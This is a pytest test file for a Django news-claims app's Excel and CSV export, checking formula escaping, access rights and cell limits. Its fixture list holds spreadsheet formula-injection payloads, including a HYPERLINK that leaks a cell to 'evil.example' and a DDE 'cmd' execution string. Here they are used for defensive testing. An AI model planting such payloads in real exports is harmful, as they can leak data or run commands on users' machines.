"""The Excel workbook export (claims/exchange/sheet.py) and what a spreadsheet makes of the CSV
tables: every text exact and never a formula in the workbook, a CSV text that starts like a
formula behind an apostrophe, and the workbook's sheets the reader's CSV tables (the same
rights: names, notes and labels as each reader's CSVs have them)."""

import csv
import io

import pytest
from django.core.management import CommandError, call_command
from django.test import Client, override_settings
from django.urls import reverse
from openpyxl import load_workbook

from articles.models import BlindReview, Story
from claims.exchange import sheet
from claims.exchange.export import CSV_TABLES, JOINED, write_csv
from tests.claims.test_exports_rights import NOTES, build_newsroom, client_for
from tests.conftest import make_article, make_user, signed_in

pytestmark = pytest.mark.django_db

TRICKY = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the source")',
    "+cmd|' /C calc'!A0",
    "-5",
    "@SUM(1+1)",
    "'=1+1, as quoted",
    "2016-09-20",
    "00123",
    "Protesters in São Paulo and Erdoğan’s aides said “enough”.",
    'He said "we will return," and left.',
]


def workbook(client, story):
    response = client.get(reverse("claims-export-xlsx", args=[story.slug]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert f'filename="{story.slug}.xlsx"' in response["Content-Disposition"]
    return load_workbook(io.BytesIO(response.content))


def csv_rows(client, story, table) -> list[list[str]]:
    response = client.get(reverse("claims-export-csv", args=[story.slug, table]))
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def as_csv(value) -> str:
    """A workbook cell as its CSV cell reads."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    text = str(value)
    return "'" + text if isinstance(value, str) and text[:1] in "=+-@'" else text


@pytest.fixture
def tricky(matched_story):
    return make_article(matched_story, "Formula Wire", TRICKY)


def test_every_text_is_exact_and_a_text_cell_never_a_formula(client, matched_story, tricky):
    book = workbook(client, matched_story)
    assert book.sheetnames == [JOINED, *[t for t in CSV_TABLES if t != JOINED]]
    for name in (JOINED, "claims"):
        rows = list(book[name].iter_rows())
        header = [c.value for c in rows[0]]
        text = header.index("text")
        cells = {r[text].value: r[text] for r in rows[1:]}
        for claim in tricky:
            cell = cells[claim.text]  # exactly the claim's text, no apostrophe
            assert cell.data_type == "s", (name, claim.text)
        ids = [r[header.index("claim_id" if name == JOINED else "id")].value for r in rows[1:]]
        assert all(isinstance(i, int) for i in ids)
    assert not any(c.data_type == "f" for ws in book for row in ws.iter_rows() for c in row)


def test_csv_texts_that_start_like_a_formula_get_an_apostrophe(client, matched_story, tricky):
    for table in ("claims", JOINED):
        rows = csv_rows(client, matched_story, table)
        text = rows[0].index("text")
        found = {r[text] for r in rows[1:]}
        assert "'" + TRICKY[0] in found and TRICKY[0] not in found
        assert {"'+cmd|' /C calc'!A0", "'-5", "'@SUM(1+1)", "''=1+1, as quoted"} <= found
        assert {TRICKY[5], TRICKY[6], TRICKY[7], TRICKY[8]} <= found  # unchanged
        # One apostrophe off such a cell gives the text back.
        back = {t[1:] if t[:1] == "'" and t.lstrip("'")[:1] in "=+-@" else t for t in found}
        assert set(TRICKY) <= back


def test_write_csv_escapes_every_table_and_keeps_numbers():
    out = io.StringIO()
    write_csv(out, "links", [{"claim_a": -1, "explanation": "=cmd", "shared_terms": ["-x", "y"]}])
    assert out.getvalue().splitlines()[1] == "-1,'=cmd,'-x; y"


@pytest.mark.parametrize("blind", [False, True])
@pytest.mark.parametrize("viewer", ["anonymous", "out", "ann", "ed", "staff"])
def test_the_workbook_is_the_readers_csv_tables(blind, viewer):
    story, _, users = build_newsroom()
    if blind:
        Story.objects.filter(pk=story.pk).update(blind_review=BlindReview.ON)
        story.refresh_from_db()
    client = client_for(viewer, users)
    book = workbook(client, story)
    for table in CSV_TABLES:
        cells = [[as_csv(c.value) for c in row] for row in book[table].iter_rows()]
        assert cells == csv_rows(client, story, table), table
    every = " ".join(str(c.value) for ws in book for row in ws.iter_rows() for c in row)
    if viewer in ("anonymous", "out"):  # not members: pseudonyms, no notes
        assert "zz-" not in every and not any(note in every for note in NOTES.values())
    if viewer == "ed":  # an editor: every name and note, blind or not
        assert "zz-bea-annotator" in every and NOTES["bea"] in every
    if blind and viewer in ("anonymous", "out"):
        assert len(book["annotations"]["A"]) == 1  # the header: no one's labels


def test_a_story_without_claims_has_every_sheet_with_its_header(client):
    story = Story.objects.create(slug="empty-desk", title="Empty")
    book = workbook(client, story)
    claims = [c.value for c in next(book["claims"].iter_rows())]
    assert claims == ["id", "article_id", "position", "start", "end", "text", "speaker", "event_id"]
    assert book[JOINED].max_row == 1


def test_what_a_cell_cannot_hold_is_cut_or_dropped():
    long = "x" * 40_000
    content = sheet.workbook({"t": [{"a": long, "b": "bell\x07 rang", "c": None, "d": 0.5}]}, {})
    row = list(load_workbook(io.BytesIO(content))["t"].iter_rows(values_only=True))[1]
    assert len(row[0]) == sheet.CELL_MAX and row[0].endswith("…")
    assert row[1:] == ("bell rang", None, 0.5)


def test_the_workbook_is_offered_beside_the_csvs(client, matched_story):
    html = client.get(reverse("claims-story", args=[matched_story.slug])).content.decode()
    assert reverse("claims-export-xlsx", args=[matched_story.slug]) in html


def test_with_reading_closed_a_signed_out_reader_gets_no_workbook(client, settings, matched_story):
    url = reverse("claims-export-xlsx", args=[matched_story.slug])
    assert Client().get(reverse("claims-export-xlsx", args=["no-such-story"])).status_code == 404
    closed = [*settings.MIDDLEWARE, "django.contrib.auth.middleware.LoginRequiredMiddleware"]
    with override_settings(PARALLAX_OPEN_READING=False, MIDDLEWARE=closed):
        assert Client().get(url).status_code == 302  # to sign in
        assert signed_in(make_user("zz-sheet-outsider")).get(url).status_code == 200


@pytest.mark.parametrize("anonymous", [False, True])
def test_export_story_writes_the_workbook(tmp_path, anonymous):
    story, _, users = build_newsroom()
    path = tmp_path / "story.xlsx"
    args = ["--anonymous"] if anonymous else []
    err = io.StringIO()
    call_command(
        "export_story", story.slug, "--format", "xlsx", "--output", str(path), *args, stderr=err
    )
    assert f"wrote {path}" in err.getvalue()
    book = load_workbook(path)
    every = " ".join(str(c.value) for ws in book for row in ws.iter_rows() for c in row)
    assert ("zz-bea-annotator" in every) == (not anonymous)
    assert ("annotator-1" in every) == anonymous
    with pytest.raises(CommandError, match="give --output FILE"):
        call_command("export_story", story.slug, "--format", "xlsx", stderr=io.StringIO())
